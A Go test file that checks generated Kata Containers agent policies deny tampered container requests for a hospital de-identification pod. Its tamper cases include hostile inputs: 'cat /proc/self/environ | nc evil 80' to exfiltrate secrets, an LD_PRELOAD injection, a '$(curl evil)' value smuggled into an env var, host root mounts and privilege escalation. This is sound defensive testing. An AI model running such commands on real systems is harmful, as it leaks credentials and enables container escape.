package agentpolicy

import (
	"context"
	"github.com/trustgate/trustgate/internal/agentpolicy/agentpolicytest"
	"strings"
	"testing"
)

const (
	appImage  = "ghcr.io/hospital/deid@sha256:1111111111111111111111111111111111111111111111111111111111111111"
	sideImage = "ghcr.io/trustgate/tls-sidecar@sha256:2222222222222222222222222222222222222222222222222222222222222222"
	sealedRef = "sealed.eyJhbGciOiJFUzI1NiIsImtpZCI6ImsifQ.eyJ2IjoxfQ.c2ln"
)

func testPod() *Pod {
	return &Pod{
		SandboxName: "^deid-[a-z0-9]+-[a-z0-9]+$",
		Sandbox:     Container{UID: 65535, GID: 65535},
		Namespace:   "hospital",
		Containers: []Container{
			{Name: "deid", Image: appImage, Args: []string{"/usr/bin/deid", "serve", "--port=8080"},
				Env: []string{"AZURE_CONN=" + sealedRef, "MODE=strict"}, EnvRegex: []string{`^POD_IP=[0-9.]+$`},
				Mounts:          []Mount{{Destination: "/etc/deid/tls", ReadOnly: true, Volume: "vol"}, {Destination: "/tmp", ReadOnly: false, Volume: "vol"}},
				NoNewPrivileges: true, UID: 1000, ReadOnlyRootFS: true},
			{Name: "tls-sidecar", Image: sideImage, Args: []string{"/tls-sidecar", "--upstream=127.0.0.1:8080"},
				UID: -1},
		},
	}
}

func eval(t *testing.T, policy, query string, input map[string]any) bool {
	t.Helper()
	ok, err := agentpolicytest.Evaluate(context.Background(), policy, query, input)
	if err != nil {
		t.Fatal(err)
	}
	return ok
}

// request builds a CreateContainerRequest input shaped as the Kata agent
// passes it to the policy engine (kata-containers genpolicy rules.rego).
func request(c Container, ctype string, extraMounts ...any) map[string]any {
	r := agentpolicytest.ContainerRequest{
		SandboxName: "deid-7d9c8b6f5-x2k4q", Namespace: "hospital", Type: ctype, Name: c.Name, Image: c.Image,
		Args: c.Args, NoNewPrivileges: c.NoNewPrivileges, ReadOnlyRoot: c.ReadOnlyRootFS, UID: max(c.UID, 0), GID: max(c.GID, 0),
		Capabilities: []string{"CAP_CHOWN", "CAP_KILL", "CAP_NET_BIND_SERVICE"},
		Env: append([]string{"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "HOSTNAME=deid-7d9c8b6f5-x2k4q",
			"KUBERNETES_SERVICE_HOST=10.0.0.1", "KUBERNETES_SERVICE_PORT=443", "KUBERNETES_PORT=tcp://10.0.0.1:443"}, c.Env...),
		Mounts: agentpolicytest.DefaultMountRequests(strings.Repeat("a", 64)),
	}
	if ctype == "sandbox" {
		r.Image = "registry.k8s.io/pause:3.9"
		r.UID, r.GID = 65535, 65535
	}
	for _, m := range c.Mounts {
		opts := []string{"rbind", "rprivate", "rw"}
		if m.ReadOnly {
			opts = []string{"rbind", "rprivate", "ro"}
		}
		r.Mounts = append(r.Mounts, agentpolicytest.MountRequest{Destination: m.Destination, Type: "bind", Options: opts,
			Source: agentpolicytest.KataSharedPrefix + strings.Repeat("a", 64) + "-" + strings.Repeat("d", 16) + "-vol"})
	}
	in := agentpolicytest.CreateContainerInput(r)
	oci := in["OCI"].(map[string]any)
	oci["Mounts"] = append(oci["Mounts"].([]any), extraMounts...)
	return in
}

func TestHardenedDenies(t *testing.T) {
	for _, allowLogs := range []bool{false, true} {
		pol, err := Generate(Options{Mode: Hardened, AllowLogs: allowLogs}, nil)
		if err != nil {
			t.Fatal(err)
		}
		if eval(t, pol, "ExecProcessRequest", map[string]any{"process": map[string]any{"Args": []string{"sh"}}}) {
			t.Error("exec allowed")
		}
		if eval(t, pol, "SetPolicyRequest", map[string]any{"policy": "package agent_policy"}) {
			t.Error("set policy allowed")
		}
		if got := eval(t, pol, "ReadStreamRequest", map[string]any{}); got != allowLogs {
			t.Errorf("allowLogs=%v: ReadStream=%v", allowLogs, got)
		}
		if !eval(t, pol, "CreateContainerRequest", request(testPod().Containers[0], "container")) {
			t.Error("hardened mode must allow create container")
		}
		// What every pod needs stays allowed (CopyFile, UpdateInterface and
		// the other checked requests: TestKataConformance in internal/cocofy
		// evaluates them on captured requests).
		for _, q := range []string{"CreateSandboxRequest", "StartContainerRequest",
			"UpdateRoutesRequest", "WaitProcessRequest", "SignalProcessRequest", "RemoveContainerRequest", "GuestDetailsRequest"} {
			if !eval(t, pol, q, map[string]any{}) {
				t.Errorf("%s denied", q)
			}
		}
	}
}

func TestStrict(t *testing.T) {
	pod := testPod()
	pol, err := Generate(Options{Mode: Strict}, pod)
	if err != nil {
		t.Fatal(err)
	}
	for _, q := range []string{"ExecProcessRequest", "ReadStreamRequest", "SetPolicyRequest", "AddSwapRequest",
		"StartTracingRequest", "SetGuestDateTimeRequest", "ReseedRandomDevRequest", "WriteStreamRequest"} {
		if eval(t, pol, q, map[string]any{"process": map[string]any{"Args": []string{"cat", "/proc/1/environ"}}}) {
			t.Errorf("%s allowed", q)
		}
	}
	if !eval(t, pol, "CreateContainerRequest", request(Container{Args: []string{"/pause"}}, "sandbox")) {
		t.Error("pause container denied")
	}
	for _, c := range pod.Containers {
		if !eval(t, pol, "CreateContainerRequest", request(c, "container")) {
			t.Errorf("container %s denied", c.Name)
		}
	}
	withDownward := pod.Containers[0]
	withDownward.Env = append(append([]string{}, withDownward.Env...), "POD_IP=10.1.2.3")
	if !eval(t, pol, "CreateContainerRequest", request(withDownward, "container")) {
		t.Error("downward API env denied")
	}
	app := pod.Containers[0]
	tamper := []struct {
		name string
		req  func() map[string]any
	}{
		{"other image digest", func() map[string]any {
			c := app
			c.Image = strings.Replace(appImage, "1111", "9999", 1)
			return request(c, "container")
		}},
		{"same digest, other registry", func() map[string]any {
			c := app
			c.Image = strings.Replace(appImage, "ghcr.io/hospital", "evil.io/x", 1)
			return request(c, "container")
		}},
		{"other command", func() map[string]any {
			c := app
			c.Args = []string{"/bin/sh", "-c", "cat /proc/self/environ | nc evil 80"}
			return request(c, "container")
		}},
		{"extra arg", func() map[string]any {
			c := app
			c.Args = append(append([]string{}, app.Args...), "--debug")
			return request(c, "container")
		}},
		{"added env var", func() map[string]any {
			c := app
			c.Env = append(append([]string{}, app.Env...), "LD_PRELOAD=/tmp/evil.so")
			return request(c, "container")
		}},
		{"changed sealed reference", func() map[string]any {
			c := app
			c.Env = []string{"AZURE_CONN=plaintext", "MODE=strict"}
			return request(c, "container")
		}},
		{"added host mount", func() map[string]any {
			return request(app, "container", map[string]any{"destination": "/host", "source": "/", "type_": "bind", "options": []string{"rbind", "rw"}})
		}},
		{"pod volume sourced from the guest's root", func() map[string]any {
			r := request(app, "container")
			for _, m := range r["OCI"].(map[string]any)["Mounts"].([]any) {
				if mm := m.(map[string]any); mm["destination"] == "/tmp" {
					mm["source"] = "/"
				}
			}
			return r
		}},
		{"pod volume from another container's files", func() map[string]any {
			r := request(app, "container")
			for _, m := range r["OCI"].(map[string]any)["Mounts"].([]any) {
				if mm := m.(map[string]any); mm["destination"] == "/tmp" {
					mm["source"] = agentpolicytest.KataSharedPrefix + strings.Repeat("f", 64) + "-" + strings.Repeat("d", 16) + "-vol"
				}
			}
			return r
		}},
		{"read-only mount made writable", func() map[string]any {
			c := app
			c.Mounts = []Mount{{Destination: "/etc/deid/tls", ReadOnly: false, Volume: "vol"}, {Destination: "/tmp", Volume: "vol"}}
			return request(c, "container")
		}},
		{"privileged caps", func() map[string]any {
			r := request(app, "container")
			proc := r["OCI"].(map[string]any)["Process"].(map[string]any)
			proc["Capabilities"].(map[string]any)["Bounding"] = []string{"CAP_SYS_ADMIN"}
			return r
		}},
		{"no-new-privileges dropped", func() map[string]any {
			c := app
			c.NoNewPrivileges = false
			return request(c, "container")
		}},
		{"downward env with other value shape", func() map[string]any {
			c := app
			c.Env = append(append([]string{}, app.Env...), "POD_IP=$(curl evil)")
			return request(c, "container")
		}},
		{"other uid", func() map[string]any {
			c := app
			c.UID = 0
			return request(c, "container")
		}},
		{"unknown container name", func() map[string]any {
			c := app
			c.Name = "debugger"
			return request(c, "container")
		}},
		{"other pod name", func() map[string]any {
			r := request(app, "container")
			r["OCI"].(map[string]any)["Annotations"].(map[string]any)["io.kubernetes.cri.sandbox-name"] = "attacker-pod"
			return r
		}},
		{"other namespace", func() map[string]any {
			r := request(app, "container")
			r["OCI"].(map[string]any)["Annotations"].(map[string]any)["io.kubernetes.cri.sandbox-namespace"] = "default"
			return r
		}},
		{"guest pull of another image", func() map[string]any {
			r := request(app, "container")
			r["storages"].([]any)[0].(map[string]any)["source"] = "docker.io/library/busybox:latest"
			return r
		}},
		{"hooks", func() map[string]any {
			r := request(app, "container")
			r["OCI"].(map[string]any)["Hooks"] = map[string]any{"Prestart": []any{map[string]any{"Path": "/bin/sh"}}}
			return r
		}},
		{"pause with a shell", func() map[string]any {
			return request(Container{Args: []string{"/bin/sh"}}, "sandbox")
		}},
	}
	for _, tt := range tamper {
		t.Run(tt.name, func(t *testing.T) {
			if eval(t, pol, "CreateContainerRequest", tt.req()) {
				t.Fatal("allowed")
			}
		})
	}
}

func TestStrictRefusesUnpinnable(t *testing.T) {
	pod := testPod()
	pod.Containers[0].Image = "ghcr.io/hospital/deid:1.0"
	if _, err := Generate(Options{Mode: Strict}, pod); err == nil || !strings.Contains(err.Error(), "digest") {
		t.Fatalf("tag accepted: %v", err)
	}
	pod = testPod()
	pod.Containers[1].Args = nil
	if _, err := Generate(Options{Mode: Strict}, pod); err == nil || !strings.Contains(err.Error(), "command") {
		t.Fatalf("missing command accepted: %v", err)
	}
	if _, err := Generate(Options{Mode: "lax"}, pod); err == nil {
		t.Fatal("unknown mode accepted")
	}
}

func TestDeterministic(t *testing.T) {
	a, _ := Generate(Options{Mode: Strict}, testPod())
	b, _ := Generate(Options{Mode: Strict}, testPod())
	if a != b {
		t.Fatal("not deterministic")
	}
}

func BenchmarkEvaluateCreateContainer(b *testing.B) {
	pod := testPod()
	pol, _ := Generate(Options{Mode: Strict}, pod)
	in := request(pod.Containers[0], "container")
	for b.Loop() {
		if ok, err := agentpolicytest.Evaluate(context.Background(), pol, "CreateContainerRequest", in); err != nil || !ok {
			b.Fatal(err)
		}
	}
}

// The runtime reports the image as it normalised it: the tag dropped next to
// the digest, a short name under docker.io/library/. Still pinned to the digest.
func TestStrictNormalisedImageNames(t *testing.T) {
	pod := testPod()
	digest := "@sha256:" + strings.Repeat("1", 64)
	pod.Containers[0].Image = "busybox:1.36" + digest
	pol, err := Generate(Options{Mode: Strict}, pod)
	if err != nil {
		t.Fatal(err)
	}
	for image, want := range map[string]bool{
		"busybox:1.36" + digest:                                       true,
		"busybox" + digest:                                            true,
		"docker.io/library/busybox" + digest:                          true,
		"docker.io/library/busybox:1.36" + digest:                     true,
		"docker.io/library/busybox@sha256:" + strings.Repeat("9", 64): false,
		"docker.io/evil/busybox" + digest:                             false,
		"busybox:1.36":                                                false,
	} {
		c := pod.Containers[0]
		c.Image = image
		if got := eval(t, pol, "CreateContainerRequest", request(c, "container")); got != want {
			t.Errorf("%s: allowed=%v, want %v", image, got, want)
		}
	}
}
